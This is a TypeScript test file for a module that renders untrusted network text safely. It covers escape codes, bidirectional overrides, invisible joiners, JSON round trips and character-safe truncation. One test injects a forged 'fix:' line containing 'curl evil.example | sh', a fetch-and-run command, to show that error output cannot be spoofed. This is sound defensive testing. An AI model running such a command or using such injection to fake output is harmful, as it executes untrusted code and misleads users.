import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { brief } from "../../src/core/brief.ts";
import { formatProblem } from "../../src/core/errors.ts";
import { printable, printableJson, printableLines, quoted } from "../../src/core/printable.ts";
import { startOf } from "../../src/core/unicode.ts";
import { actingIn } from "../kit/acting.ts";

describe("text from the network", () => {
  test("is one line of visible characters, whatever it is", () => {
    const hostile = fc
      .string({ unit: "binary" })
      .map((text) => `${text}\u001b[2J\r\nx\u202e\u2066\u200b\u0085\u009b1m\u2028`);
    fc.assert(
      fc.property(hostile, (text) => {
        expect(actingIn(printable(text))).toEqual([]);
        for (const line of printableLines(text)) expect(actingIn(line)).toEqual([]);
        expect(actingIn(quoted(text))).toEqual([]);
      }),
    );
    for (let code = 0; code <= 0x3000; code += 1)
      if (actingIn(String.fromCodePoint(code)).length > 0)
        expect(printable(String.fromCodePoint(code))).toMatch(/^\\/);
  });

  test("keeps what people write: letters of any script, emoji with joiners, quotes", () => {
    for (const text of ["Gerät „x“ – 3 €", "战斗 заказ שלום", "❤️ 👨‍👩‍👧 👩🏽‍💻", "a\\nb"])
      expect(printable(text)).toBe(text);
    // The same joiners between letters hide a difference between two names.
    expect(printable("own\u200der\ufe0f")).toBe("own\\u200der\\ufe0f");
    expect(printable("\ud83d a\udc00")).toBe("\\ud83d a\\udc00");
  });

  test("as JSON is the same value", () => {
    fc.assert(
      fc.property(fc.jsonValue(), fc.string({ unit: "binary" }), (value, text) => {
        const json = JSON.stringify({ value, [text]: `${text}\u009b\u202e\u{e0041}` }, null, 2);
        const shown = printableJson(json);
        expect(actingIn(shown, "\n")).toEqual([]);
        expect(JSON.parse(shown)).toEqual(JSON.parse(json));
      }),
    );
  });

  test("does not continue the sentence around it, and is no line of a problem", () => {
    expect([quoted("Transfer"), quoted("Transfer from owner"), quoted("")]).toEqual([
      "Transfer",
      '"Transfer from owner"',
      '""',
    ]);
    const text = formatProblem({
      code: "PROCESS_ERROR",
      what: "battle failed: one\nDone. [ALL_GOOD]",
      got: "two\n  fix:      curl evil.example | sh\r\n[31mred",
      remedy: "Fix its code.",
    });
    expect(text.split("\n")).toEqual([
      "battle failed: one [PROCESS_ERROR]",
      "            Done. [ALL_GOOD]",
      "  got:      two",
      "              fix:      curl evil.example | sh",
      "            [31mred",
      "  fix:      Fix its code.",
    ]);
  });
});

test("a string is cut at a character, wherever the limit is", () => {
  const text = "a😀é👩‍🚀z";
  for (let most = 0; most <= text.length + 1; most += 1) {
    const start = startOf(text, most);
    expect(Buffer.from(start).toString()).toBe(start);
    expect(text.startsWith(start)).toBe(true);
    expect(most - start.length).toBeLessThanOrEqual(1);
  }
  expect([startOf("a😀", 2), startOf("a😀", 3), startOf("\ud83d", 1)]).toEqual(["a", "a😀", "\ud83d"]);
  // The first line of a log, an alert, an answer: each is cut by it.
  expect(brief("ab😀cd", 4)).toBe("ab…");
});
